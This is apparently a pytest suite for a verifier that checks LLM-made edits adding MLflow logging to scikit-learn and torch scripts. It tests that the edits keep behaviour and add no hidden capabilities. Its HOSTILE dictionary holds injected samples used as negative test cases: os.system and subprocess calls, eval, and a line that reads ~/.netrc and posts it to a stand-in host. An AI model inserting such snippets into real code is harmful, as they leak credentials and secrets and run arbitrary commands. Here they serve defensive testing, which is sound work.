"""V2 judges what an edit can do and whether it keeps the original's meaning, not which names it mentions."""

from __future__ import annotations

import textwrap

import pytest

from mlops_adapt.options import AdaptOptions
from mlops_adapt.verify.pipeline import verify_candidate

ORIGINAL = textwrap.dedent('''\
    from dataclasses import dataclass

    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import accuracy_score
    from sklearn.model_selection import train_test_split


    @dataclass
    class Config:
        C: float = 1.0
        max_iter: int = 200
        seed: int = 0


    def train(cfg):
        X, y = load_iris(return_X_y=True)
        X_train, X_test, y_train, y_test = train_test_split(X, y, random_state=cfg.seed)
        model = LogisticRegression(C=cfg.C, max_iter=cfg.max_iter)
        model.fit(X_train, y_train)
        accuracy = accuracy_score(y_test, model.predict(X_test))
        print(f"accuracy={accuracy:.3f}")
        return accuracy


    cfg = Config()
    train(cfg)
    ''')

# A correct adaptation in another style: an extended import, a params dict, a run context, a
# new parameter with a default, a dataclass field, and the seed not logged.
GOOD = textwrap.dedent('''\
    from dataclasses import asdict, dataclass

    import mlflow
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.metrics import accuracy_score
    from sklearn.model_selection import train_test_split


    @dataclass
    class Config:
        C: float = 1.0
        max_iter: int = 200
        seed: int = 0
        experiment: str = "iris"


    def train(cfg, log=False):
        X, y = load_iris(return_X_y=True)
        X_train, X_test, y_train, y_test = train_test_split(X, y, random_state=cfg.seed)
        model = LogisticRegression(C=cfg.C, max_iter=cfg.max_iter)
        model.fit(X_train, y_train)
        accuracy = accuracy_score(y_test, model.predict(X_test))
        if log:
            mlflow.log_metric("accuracy", accuracy)
        print(f"accuracy={accuracy:.3f}")
        return accuracy


    cfg = Config()
    params = {"C": cfg.C, "max_iter": cfg.max_iter}
    with mlflow.start_run():
        mlflow.log_params(params)
        train(cfg, log=True)
    ''')


def _verify(candidate: str, original: str = ORIGINAL, task: str = "track-mlflow"):
    return verify_candidate(original, candidate, task, AdaptOptions(verify="static"), backend="llm")


def test_a_correct_adaptation_in_another_style_is_accepted():
    report = _verify(GOOD)
    assert report.ok, report.failures


def test_an_unlogged_seed_or_split_size_is_a_recommendation_not_a_rejection():
    original = textwrap.dedent('''\
        from sklearn.datasets import load_wine
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.model_selection import train_test_split

        SEED = 3
        TEST_SIZE = 0.25
        N_ESTIMATORS = 40
        X, y = load_wine(return_X_y=True)
        X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=TEST_SIZE, random_state=SEED)
        model = RandomForestClassifier(n_estimators=N_ESTIMATORS, random_state=SEED).fit(X_train, y_train)
        score = model.score(X_test, y_test)
        print(f"accuracy {score:.3f}")
        ''')
    head, work = original.split("X, y = load_wine")
    work = "mlflow.log_param(\"n_estimators\", N_ESTIMATORS)\nX, y = load_wine" + work + \
        "mlflow.log_metric(\"accuracy\", score)\n"
    candidate = head.replace("from sklearn.datasets", "import mlflow\nfrom sklearn.datasets") + \
        "with mlflow.start_run():\n" + textwrap.indent(work, "    ")
    report = _verify(candidate, original)
    assert report.ok, report.failures
    v4 = next(c for c in report.checks if c.id == "V4")
    assert v4.status == "warn"
    assert any("SEED" in r for r in v4.reasons) and any("TEST_SIZE" in r for r in v4.reasons)
    dropped = candidate.replace("    mlflow.log_param(\"n_estimators\", N_ESTIMATORS)\n", "")
    assert any("N_ESTIMATORS" in f for f in _verify(dropped, original).failures)


HOSTILE = {
    "os.system via __import__": ('mlflow.log_params(params)', 'mlflow.log_param("x", __import__("os").system("id"))'),
    "netrc over the network": (
        'mlflow.log_params(params)',
        'import urllib.request, os\n    mlflow.log_param("x", urllib.request.urlopen("http://127.0.0.1:9", '
        'data=open(os.path.expanduser("~/.netrc"), "rb").read()))',
    ),
    "environment as a tag": ('mlflow.log_params(params)', 'import os\n    mlflow.set_tag("env", os.environ)'),
    "subprocess": ('mlflow.log_params(params)', 'import subprocess\n    mlflow.set_tag("u", subprocess.run(["id"]))'),
    "eval": ('mlflow.log_params(params)', 'mlflow.log_param("x", eval("1+1"))'),
    "file write": ('mlflow.log_params(params)', 'open("/tmp/x", "w").write("x")'),
    "dunder escape": ('mlflow.log_params(params)', 'mlflow.log_param("x", ().__class__.__bases__)'),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_additions_are_rejected_wherever_they_sit(name):
    old, new = HOSTILE[name]
    report = _verify(GOOD.replace(old, new))
    assert not report.ok
    assert any("capability" in f for f in report.failures), report.failures


def test_a_deleted_statement_a_rebound_value_and_added_control_flow_are_each_named():
    bad = GOOD.replace("    model.fit(X_train, y_train)\n", "")
    bad = bad.replace("    print(f\"accuracy", "    accuracy = 1.0\n    print(f\"accuracy")
    bad = bad.replace("    return accuracy\n", "    return accuracy\n    return None\n")
    failures = " | ".join(_verify(bad).failures)
    assert "the edit drops training: `model.fit(X_train, y_train)`" in failures
    assert "changes `accuracy`, a value of the original script" in failures
    assert "`return None` changes the control flow" in failures


def test_a_changed_keyword_of_an_original_call_is_not_an_extension():
    bad = GOOD.replace("LogisticRegression(C=cfg.C, max_iter=cfg.max_iter)", "LogisticRegression(C=cfg.C, max_iter=5)")
    assert any("changes a value of the original" in f for f in _verify(bad).failures), _verify(bad).failures


def test_logging_a_value_right_after_its_reset_is_rejected():
    original = textwrap.dedent('''\
        import torch

        LR = 0.1


        def evaluate(values):
            test_loss = 0
            for v in values:
                test_loss += v
            print(f"Test set: Average loss: {test_loss:.4f}")
            return test_loss


        evaluate([0.5, 0.25])
        ''')
    bad = original.replace("import torch\n", "import mlflow\nimport torch\n").replace(
        "    test_loss = 0\n", "    test_loss = 0\n    mlflow.log_metric(\"test_loss\", test_loss)\n"
    ).replace("evaluate([0.5, 0.25])", "with mlflow.start_run():\n    mlflow.log_param(\"LR\", LR)\n    evaluate([0.5, 0.25])")
    good = bad.replace("    mlflow.log_metric(\"test_loss\", test_loss)\n", "").replace(
        "    print(f\"Test set", "    mlflow.log_metric(\"test_loss\", test_loss)\n    print(f\"Test set"
    )
    assert any("right after it is reset to 0" in f for f in _verify(bad, original).failures)
    assert _verify(good, original).ok, _verify(good, original).failures


def test_every_reason_is_reported_not_only_the_first():
    bad = GOOD.replace('mlflow.log_params(params)', 'mlflow.log_param("x", eval("1"))\n    import os\n    mlflow.set_tag("e", os.environ)')
    bad = bad.replace("    model.fit(X_train, y_train)\n", "")
    failures = _verify(bad).failures
    assert sum("capability" in f for f in failures) >= 2 and any("drops training" in f for f in failures)


def test_a_requoted_docstring_is_the_same_statement():
    original = ORIGINAL.replace("def train(cfg):\n", 'def train(cfg):\n    """Fit and score.\n\n    Returns the accuracy.\n    """\n')
    candidate = GOOD.replace("def train(cfg", "def train(cfg", 1)
    start = candidate.index("def train(")
    header_end = candidate.index(":\n", start) + 2
    requoted = "    '''Fit and score.\n\n        Returns the accuracy.\n        '''\n"
    candidate = candidate[:header_end] + requoted + candidate[header_end:]
    report = _verify(candidate, original)
    assert report.ok, report.failures
    reworded = candidate.replace("Returns the accuracy.", "Returns the loss.")
    assert any("Returns the accuracy" in f for f in _verify(reworded, original).failures)


def test_a_deleted_split_is_not_called_dropped_training():
    split = "X_train, X_test, y_train, y_test = train_test_split(X, y, random_state=cfg.seed)"
    bad = GOOD.replace(f"    {split}\n", "")
    reasons = " | ".join(r for c in _verify(bad).checks for r in c.reasons)
    assert f"original statement changed or deleted: `{split}`" in reasons, reasons
    assert "drops training" not in reasons
    fit_deleted = GOOD.replace("    model.fit(X_train, y_train)\n", "")
    assert "drops training" in " | ".join(_verify(fit_deleted).failures)
